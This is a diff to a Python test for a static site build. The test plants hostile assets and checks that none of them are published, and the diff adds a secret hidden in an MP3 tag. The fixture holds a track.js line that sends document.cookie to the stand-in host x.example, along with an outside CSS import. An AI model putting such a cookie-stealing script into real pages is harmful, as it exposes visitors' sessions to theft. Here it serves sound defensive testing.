@@ -41,6 +41,7 @@ def _make(folder: Path) -> Path:
     info = PngImagePlugin.PngInfo()
     info.add_text("Author", SECRET)
     Image.new("RGB", (50, 50), "white").save(docs / "unused.png", pnginfo=info)
+    (docs / "chanson.mp3").write_bytes(b"ID3\x04\x00\x00\x00\x00\x00\x10TIT2" + SECRET.encode())
     (docs / "track.js").write_text("fetch('https://x.example/?' + document.cookie)")
     (root / "docs/assets/extra.css").write_text("@import url(https://x.example/a.css);")
     page = root / PAGE
@@ -71,11 +72,18 @@ def test_the_build_publishes_only_what_the_hub_made_again(hostile_site):
     published = {p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()}
     here = "methodologies/debat-budget"
     assert f"{here}/schema.svg" in published and f"{here}/photo.jpg" in published
-    for left_out in ("unused.png", "track.js", "hostile-0.svg", "hostile-1.svg", "hostile-2.svg"):
+    for left_out in (
+        "unused.png",
+        "chanson.mp3",  # an audio file no capsule names: a source, never published
+        "track.js",
+        "hostile-0.svg",
+        "hostile-1.svg",
+        "hostile-2.svg",
+    ):
         assert not any(p.endswith(f"{here}/{left_out}") for p in published), left_out
     assert not any(p.endswith("assets/extra.css") for p in published)
     for path in site.rglob("*"):
-        if path.suffix in (".jpg", ".png", ".gif", ".webp", ".svg"):
+        if path.suffix in (".jpg", ".png", ".gif", ".webp", ".svg", ".mp3", ".opus"):
             assert SECRET.encode() not in path.read_bytes(), path
     with Image.open(site / here / "photo.jpg") as photo:
         assert not photo.getexif() and "comment" not in photo.info
